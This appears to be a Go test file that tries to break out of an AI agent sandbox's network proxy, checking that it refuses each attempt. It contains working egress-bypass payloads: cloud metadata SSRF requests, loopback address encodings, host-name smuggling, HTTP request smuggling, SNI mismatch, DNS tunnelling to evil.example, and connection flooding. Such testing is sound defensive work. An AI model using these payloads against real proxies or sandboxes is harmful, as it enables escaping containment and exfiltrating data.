//go:build attack && linux

package attack

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"strings"
	"time"

	"substrat.dev/substrat"
)

// What the door of the agent "door" lets through: a name that nobody has, everything below it, this machine's own name, and one
// port of the host that is there to show that the door is open at all.
const allowedName = "allowed.test"

// speak sends text to a port of the door and gives the beginning of the answer.
func speak(port, text string) (string, error) { return speakTo("127.0.0.1:"+port, text) }

func speakTo(addr, text string) (string, error) {
	c, err := net.DialTimeout("tcp", addr, dialTime)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(4 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		return "", err
	}
	answer := make([]byte, 400)
	n, err := c.Read(answer)
	if n > 0 {
		err = nil
	}
	return string(answer[:n]), err
}

// through says whether an answer is one that a host behind the door gave.
func through(answer string) bool {
	return strings.HasPrefix(answer, "HTTP/1.1 2") || strings.HasPrefix(answer, "HTTP/1.0 2") || strings.Contains(answer, "hello from the host")
}

// connects asks the proxy for tunnels. None may open.
func connects(targets ...string) outcome {
	last := ""
	for _, t := range targets {
		answer, err := speak("3128", "CONNECT "+t+" HTTP/1.1\r\nHost: "+t+"\r\n\r\n")
		if through(answer) {
			return was(hole, "a tunnel to %q: %.60q", t, answer)
		}
		last = fmt.Sprintf("%q: %s %v", t, firstLine(answer), err)
	}
	return was(refused, "%s", last)
}

// requests sends whole requests to a port.
func requests(port string, list ...string) outcome {
	last := ""
	for _, r := range list {
		answer, err := speak(port, r)
		if through(answer) {
			return was(hole, "%.80q: %.60q", r, answer)
		}
		last = fmt.Sprintf("%s %v", firstLine(answer), err)
	}
	return was(refused, "%s", last)
}

// hellos begins TLS with names.
func hellos(names ...string) outcome {
	last := ""
	for _, n := range names {
		c, err := net.DialTimeout("tcp", "127.0.0.1:443", dialTime)
		if err != nil {
			return was(refused, "%v", err)
		}
		_ = c.SetDeadline(time.Now().Add(4 * time.Second))
		err = tls.Client(c, &tls.Config{ServerName: n, InsecureSkipVerify: true}).Handshake() //nolint:gosec // nobody is to answer
		_ = c.Close()
		if err == nil {
			return was(hole, "TLS with %q was agreed on", n)
		}
		last = fmt.Sprintf("%q: %v", n, err)
	}
	return was(refused, "%s", last)
}

// notReached looks at what the door says that it let through, and at the host's listeners.
func notReached(w *world, o outcome) outcome {
	var list struct {
		Attempts []substrat.Attempt `json:"attempts"`
	}
	must(w.do(http.MethodGet, "/v1/agents/lead%2Fdoor/net?last=1000", nil, &list))
	for _, a := range list.Attempts {
		if a.Host == "…" && a.Count <= w.hits.of("open") {
			continue // many at once are counted together; as many as this arrived where they may
		}
		if (a.Verdict == "allowed" || a.Verdict == "closed") && a.Port != atoi(portOf(w.facts.Open)) {
			return was(hole, "the door let %s:%d through (%s)", a.Host, a.Port, a.Via)
		}
	}
	if o.Verdict == hole && strings.Contains(o.Text, "127.0.0.1:"+portOf(w.facts.Open)) {
		return o
	}
	return arrived("loopback", "loopback6", "machine", "linklocal", "udp")(w, o)
}

func atoi(s string) int {
	n := 0
	_, _ = fmt.Sscanf(s, "%d", &n)
	return n
}

// door are attempts on the door to the network.
func door() []attempt {
	get := func(target, host string) string {
		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
	}
	all := []attempt{
		{id: "G01", threat: "T11", what: "TLS to a name that is not on the list", try: func(*facts) outcome { return hellos("evil.example", "evilallowed.test", "allowed.test.evil.example") },
			event: regexp.MustCompile(`net\.attempt.*evil\.example`)},
		{id: "G02", threat: "T11", what: "HTTP to a name that is not on the list", try: func(*facts) outcome {
			return requests("80", get("/", "evil.example"), get("/", "evil.example."), get("/", "EVIL.example:80"))
		}, event: regexp.MustCompile(`net\.attempt.*evil\.example`)},
		{id: "G03", threat: "T11", what: "CONNECT to a name that is not on the list", try: func(*facts) outcome {
			return connects("evil.example:443", "evil.example.:443", "evilallowed.test:443", "allowed.test.evil.example:443")
		}, event: regexp.MustCompile(`net\.attempt.*evil`)},
		{id: "G04", threat: "evil\\0.allowed", what: "names that end as an allowed one: NUL, @, #, %00, spaces, full-width dots", try: func(f *facts) outcome {
			p := portOf(f.Loopback)
			return connects("evil.example\x00.allowed.test:443", "evil.example%00.allowed.test:443", "allowed.test@evil.example:443", "evil.example#.allowed.test:443", "evil.example/.allowed.test:443",
				"evil.example\\.allowed.test:443", "127.0.0.1\x00.allowed.test:"+p, "127.0.0.1:"+p+"@allowed.test:443", "evil。allowed.test:443", "evil.example .allowed.test:443", "\tallowed.test:443\x00evil.example:443")
		}},
		{id: "G05", threat: "T11", what: "this machine in every spelling: 0x7f000001, 2130706433, 127.1, 0177.0.0.1, [::ffff:127.0.0.1], 0, localhost", try: func(f *facts) outcome {
			p := portOf(f.Loopback)
			return connects("127.0.0.1:"+p, "localhost:"+p, "LOCALHOST.:"+p, "0x7f000001:"+p, "2130706433:"+p, "127.1:"+p, "0177.0.0.1:"+p, "[::ffff:127.0.0.1]:"+p, "[::ffff:7f00:1]:"+p, "[::1]:"+portOf(f.Loopback6),
				"0:"+p, "0.0.0.0:"+p, "[::]:"+p, "127.0.0.1.:"+p, "[64:ff9b::7f00:1]:"+p, "[2002:7f00:1::]:"+p, "[::127.0.0.1]:"+p, "localhost.localdomain:"+p)
		}},
		{id: "G06", threat: "T11", what: "private, link-local and metadata addresses by CONNECT and by http:// through the proxy", try: func(f *facts) outcome {
			if o := connects("169.254.169.254:80", "[fd00:ec2::254]:80", "10.0.0.1:443", "192.168.0.1:80", "172.16.0.1:443", f.Machine, "100.100.100.200:80", "metadata.google.internal:80", "[fe80::1%25eth0]:80"); o.Verdict == hole {
				return o
			}
			return requests("3128", get("http://169.254.169.254/latest/meta-data/", "allowed.test"), get("http://"+f.Loopback+"/", "allowed.test"), get("http://"+f.Machine+"/", f.Machine), get("http://[::1]:"+portOf(f.Loopback6)+"/", "x"))
		}},
		{id: "G07", threat: "T11", what: "an allowed name that resolves to this machine (rebinding)", try: func(f *facts) outcome {
			name, _ := os.Hostname()
			if f.HostName != "" {
				name = f.HostName
			}
			p := portOf(f.Machine)
			// On port 80 a tunnel opens before it is known what is asked for in it; the requests themselves are refused.
			if o := connects(name+":"+p, name+":443"); o.Verdict == hole {
				return o
			}
			return requests("80", get("/", name))
		}},
		{id: "G08", threat: "T11", what: "CONNECT to an allowed name, TLS for another", try: func(*facts) outcome {
			c, err := net.DialTimeout("tcp", "127.0.0.1:3128", dialTime)
			if err != nil {
				return was(refused, "%v", err)
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(6 * time.Second))
			_, _ = io.WriteString(c, "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
			answer, err := bufio.NewReader(c).ReadString('\n')
			if !strings.Contains(answer, " 200 ") {
				return was(refused, "no tunnel: %s %v", firstLine(answer), err)
			}
			if err := tls.Client(c, &tls.Config{ServerName: "evil.example", InsecureSkipVerify: true}).Handshake(); err != nil { //nolint:gosec // nobody is to answer
				return was(refused, "%v", err)
			}
			return was(hole, "TLS for another name was agreed on")
		}},
		{id: "G09", threat: "T11", what: "requests that say two things: two Hosts, absolute forms, smuggled second requests", try: func(f *facts) outcome {
			return requests("80", "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: "+f.Loopback+"\r\n\r\n", get("http://"+f.Loopback+"/", "allowed.test"), get("http://evil.example/", "allowed.test"),
				"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: "+f.Loopback+"\r\n\r\n",
				"GET / HTTP/1.1\nHost: allowed.test\n\nGET http://"+f.Loopback+"/ HTTP/1.1\nHost: x\n\n", "GET //"+f.Loopback+"/ HTTP/1.1\r\nHost: allowed.test@"+f.Loopback+"\r\n\r\n", "CONNECT "+f.Loopback+" HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
		}},
		{id: "G10", threat: "T11", what: "TLS without a name, with an address as the name, with an empty one", try: func(f *facts) outcome {
			return hellos("", "127.0.0.1", hostOf(f.Machine), "localhost", ".", "*.allowed.test")
		}},
		{id: "G11", threat: "T11", what: "other ports of allowed names: ssh, smtp, 8080", try: func(*facts) outcome {
			return connects("allowed.test:22", "allowed.test:25", "allowed.test:8080", "allowed.test:0", "allowed.test:65536", "allowed.test:-1", "allowed.test")
		}},
		{id: "G12", threat: "T11", what: "carry data out in DNS names, by A, TXT, ANY, CHAOS and zone transfers", try: dnsTunnel},
		{id: "G13", threat: "T11", what: "go around the door: the host's loopback, its address, a public one, by TCP and UDP", try: func(f *facts) outcome {
			// The door meets every address inside: a connection proves nothing, an answer does.
			for _, a := range []string{f.Loopback, f.Machine, f.Loopback6, "1.1.1.1:80", "169.254.169.254:80"} {
				if a == "" {
					continue
				}
				if answer, err := speakTo(a, get("/", "x")); err == nil && through(answer) {
					return was(hole, "%s answered %.60q", a, answer)
				}
			}
			return asks(dnsQuery, net.JoinHostPort(hostOf(f.Machine), portOf(f.UDP)), "8.8.8.8:53", "1.1.1.1:443")
		}},
		{id: "G14", threat: "T18", what: "tire the door: 300 connections, half requests, a header of 8 MB, endless handshakes", try: func(*facts) outcome {
			var open []net.Conn
			for i := range 300 {
				c, err := net.DialTimeout("tcp", "127.0.0.1:"+[]string{"80", "443", "3128"}[i%3], dialTime)
				if err != nil {
					break
				}
				_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: a")
				open = append(open, c)
			}
			o := requests("3128", "GET http://allowed.test/ HTTP/1.1\r\nX: "+strings.Repeat("x", 8<<20)+"\r\n\r\n")
			for _, c := range open {
				_ = c.Close()
			}
			if o.Verdict == hole {
				return o
			}
			return was(refused, "%d were held; %s", len(open), o.Text)
		}},
		{id: "G15", threat: "T11", what: "change the network that the door is in: addresses, routes, listening on its ports", try: func(*facts) outcome {
			errs := map[string]error{}
			for _, p := range []string{"80", "443", "3128", "53"} {
				l, err := net.Listen("tcp", "127.0.0.1:"+p)
				if err == nil {
					_ = l.Close()
				}
				errs["listen on "+p] = err
			}
			return allFail(errs)
		}},
		{id: "G16", threat: "T11", what: "what is on the list is reached: the door is open at all", try: func(f *facts) outcome {
			answer, err := speak("3128", "CONNECT "+f.Open+" HTTP/1.1\r\nHost: x\r\n\r\n")
			if !strings.Contains(answer, " 200 ") {
				return was(untried, "%v %s", err, firstLine(answer))
			}
			return was(contained, "the one address that the list names answered")
		}, judge: func(w *world, o outcome) outcome {
			if w.hits.of("open") == 0 {
				return was(untried, "nothing arrived at the host: what the others show is worth little (%s)", o.Text)
			}
			return o
		}},
	}
	for i := range all {
		all[i].agent = "door"
		if all[i].judge == nil {
			all[i].judge = notReached
		}
	}
	return all
}

// dnsTunnel asks the door's DNS for names that carry something.
func dnsTunnel(*facts) outcome {
	for _, q := range []struct{ kind, class byte }{{1, 1}, {28, 1}, {16, 1}, {255, 1}, {15, 1}, {252, 1}, {16, 3}, {65, 1}} {
		msg := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x20" + strings.Repeat("s", 32) + "\x04evil\x07example\x00\x00\x00\x00\x00")
		msg[len(msg)-3], msg[len(msg)-1] = q.kind, q.class
		c, err := net.DialTimeout("udp", "127.0.0.1:53", dialTime)
		if err != nil {
			return was(refused, "%v", err)
		}
		_ = c.SetDeadline(time.Now().Add(dialTime))
		_, _ = c.Write(msg)
		buf := make([]byte, 1500)
		n, err := c.Read(buf)
		_ = c.Close()
		if err == nil && n > 8 && (buf[6] != 0 || buf[7] != 0) {
			return was(hole, "an answer of type %d", q.kind)
		}
	}
	return was(refused, "no name that is not on the list has an answer")
}
